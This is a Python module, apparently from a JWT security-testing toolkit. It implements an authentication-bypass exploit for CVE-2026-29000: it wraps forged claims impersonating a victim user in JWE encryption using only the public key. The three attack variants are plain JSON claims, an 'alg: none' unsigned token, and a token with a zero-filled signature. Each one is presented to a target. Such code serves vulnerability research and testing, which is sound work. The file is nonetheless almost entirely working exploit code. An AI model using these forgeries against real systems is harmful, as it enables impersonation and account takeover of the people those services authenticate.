"""Encrypted, and signed by nobody: a token made with a public key alone (CVE-2026-29000; CWE-347)."""

import json
from typing import Any

from joserfc import jwe
from joserfc.jwk import RSAKey

from .attempt import Attempt
from .claims_target import ClaimsTarget
from .compact import about, encode, forged, unsigned

__all__ = ["encrypted", "encrypted_claims", "encrypted_forgery", "encrypted_plain"]

ALGORITHMS = ["RSA-OAEP-256", "A256GCM"]


def encrypted(text: str, jwk: dict[str, Any]) -> str:
    """Any text, encrypted for whoever has the private half of this public key (RFC 7516 §3.1)."""
    header = {"alg": ALGORITHMS[0], "enc": ALGORITHMS[1], "cty": "JWT"} | {"kid": jwk["kid"]}
    return jwe.encrypt_compact(header, text.encode(), RSAKey.import_key(jwk), algorithms=ALGORITHMS)


def encrypted_claims(target: ClaimsTarget) -> Attempt:
    """Encrypt the claims as they are, JSON and no token at all.

    The first of two forms that are reported; a reproduction of pac4j's control flow accepted it.
    """
    claims = about(target.own_token())[1] | {"sub": target.victim}
    return target.present([encrypted(json.dumps(claims), target.encryption_key())])


def encrypted_plain(target: ClaimsTarget) -> Attempt:
    """Encrypt a token that says `none`: `header.payload.` (RFC 7519 §6).

    The second form, which NVD and others report; the same reproduction refused it.
    """
    token = target.own_token()
    claims = about(token)[1] | {"sub": target.victim}
    parts = ({"alg": "none"}, claims)
    plain = ".".join(encode(json.dumps(part).encode()) for part in parts) + "."
    return target.present([encrypted(plain, target.encryption_key())])


def encrypted_forgery(target: ClaimsTarget) -> Attempt:
    """Encrypt a token of the right form whose signature is none: what a check of the form alone lets through."""
    token = forged(target.own_token(), target.victim, unsigned)
    return target.present([encrypted(token + encode(bytes(64)), target.encryption_key())])
